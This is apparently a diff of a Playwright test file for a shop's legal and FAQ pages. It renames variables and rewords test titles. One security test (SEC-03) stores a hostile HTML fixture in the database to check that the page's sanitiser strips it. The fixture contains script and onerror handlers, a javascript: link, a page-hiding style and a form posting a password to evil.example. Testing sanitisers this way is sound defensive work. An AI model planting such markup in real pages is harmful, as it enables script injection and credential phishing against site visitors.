@@ -1,23 +1,23 @@
 import { expectAccessible } from '#tests/e2e/helpers/browser/axe.ts';
-import { executeSql } from '#tests/e2e/helpers/pages/checkout.ts';
+import { executeSql } from '#tests/e2e/helpers/fixtures/sql.ts';
 import { logInAs } from '#tests/e2e/helpers/pages/members.ts';
 import { expect, test } from '#tests/e2e/helpers/fixtures/test.ts';
 
 test.use({ freshShop: true });
 
 const pages = [
-  { path: '/privacy', it: 'Informativa sulla privacy', en: 'Privacy policy', words: /dati personali/u },
-  { path: '/terms', it: 'Termini e condizioni', en: 'Terms and conditions', words: /ordin/u },
-  { path: '/cookies', it: 'Cookie', en: 'Cookies', words: /soltanto cookie tecnici/u },
+  { path: '/privacy', it: 'Informativa sulla privacy', en: 'Privacy policy', content: /dati personali/u },
+  { path: '/terms', it: 'Termini e condizioni', en: 'Terms and conditions', content: /ordin/u },
+  { path: '/cookies', it: 'Cookie', en: 'Cookies', content: /soltanto cookie tecnici/u },
 ] as const;
 
-for (const { path, it, en, words } of pages) {
+for (const { path, it, en, content } of pages) {
   test(`${path} shows its banner and text to a visitor, in both languages`, async ({ page }) => {
     await page.goto(path);
     const heading = page.getByRole('heading', { level: 1 });
     await expect(heading).toHaveText(it);
     const text = page.getByRole('article');
-    await expect(text).toContainText(words);
+    await expect(text).toContainText(content);
     await expect(text.getByRole('heading', { level: 2 }).first()).toBeVisible();
     await expect(page.getByRole('link', { name: it, exact: true }).first()).toHaveAttribute('aria-current', 'page');
     await expectAccessible(page);
@@ -26,28 +26,28 @@ for (const { path, it, en, words } of pages) {
     await expect(heading).toHaveText(en);
     await expect(text.getByRole('heading', { level: 2 }).first()).toBeVisible();
     expect(await text.innerText()).not.toBe(italian);
-    await expect(text).not.toContainText(words);
+    await expect(text).not.toContainText(content);
   });
 }
 
-/** What stands in the database may have come from anywhere: the page has a sanitiser of its own. */
-const hostile = `
+/** HTML of the database is not trusted: the page sanitizes it again. */
+const hostileHtml = `
   <h2 style="position:fixed;inset:0" onclick="window.hit=1">Titolo</h2>
   <script>window.hit = 1</script><img src="x" onerror="window.hit=1">
   <form action="https://evil.example"><input name="password"></form>
   <iframe src="/login"></iframe><style>body { display: none }</style>
   <p><a href="javascript:window.hit=1">uno</a> <a href="https://example.com">due</a> testo</p>`;
 
-test('nothing of hostile HTML reaches the page (SEC-03)', async ({ page, context, shop, unexpectedConsoleErrors }) => {
-  // The sanitiser parses it in a document of its own, where the policy refuses it a first time.
-  unexpectedConsoleErrors.allowCritical(/inline (?:style|event handler) violates.*\/sanitise-html/u);
-  await executeSql(shop, 'update legal_texts set html = $1', [{ it: hostile, en: hostile }]);
-  await executeSql(shop, 'update faqs set answer = $1', [{ it: hostile, en: hostile }]);
+test('removes hostile HTML from the page (SEC-03)', async ({ page, context, shop, unexpectedConsoleErrors }) => {
+  // The sanitizer parses the HTML in a separate document, where the content policy already blocks it.
+  unexpectedConsoleErrors.allowCritical(/inline (?:style|event handler) violates.*\/sanitize-html/u);
+  await executeSql(shop, 'update legal_texts set html = $1', [{ it: hostileHtml, en: hostileHtml }]);
+  await executeSql(shop, 'update faqs set answer = $1', [{ it: hostileHtml, en: hostileHtml }]);
   await logInAs(context, shop);
-  for (const address of ['/privacy', '/terms', '/cookies', '/faq']) {
-    await page.goto(address);
+  for (const path of ['/privacy', '/terms', '/cookies', '/faq']) {
+    await page.goto(path);
     const main = page.getByRole('main');
-    if (address === '/faq') await main.getByRole('heading', { level: 2 }).getByRole('button').first().click();
+    if (path === '/faq') await main.getByRole('heading', { level: 2 }).getByRole('button').first().click();
     const title = main.getByRole('heading', { level: 2, name: 'Titolo' });
     await expect(title).toBeVisible();
     await title.click();
@@ -60,15 +60,15 @@ test('nothing of hostile HTML reaches the page (SEC-03)', async ({ page, context
   }
 });
 
-test('a text that the shop has not written says so', async ({ page, shop }) => {
+test('shows that a text is not available yet', async ({ page, shop }) => {
   await executeSql(shop, `delete from legal_texts where kind = 'cookiePolicy'`);
   await page.goto('/cookies');
   await expect(page.getByRole('heading', { name: 'Questo testo non è ancora disponibile' })).toBeVisible();
-  // The list of what is stored comes from the app, whatever the shop has written.
+  // The list of stored items is part of the app, not of the shop's text.
   await expect(page.getByRole('heading', { name: 'Tutto ciò che resta sul tuo dispositivo' })).toBeVisible();
 });
 
-test('a text that can’t be loaded has a retry', async ({ page, network, unexpectedConsoleErrors }) => {
+test('offers a retry when a text fails to load', async ({ page, network, unexpectedConsoleErrors }) => {
   unexpectedConsoleErrors.allow(/status of 503/u);
   await page.goto(`${network.origin}/terms`);
   await expect(page.getByRole('article')).toContainText('ordin');
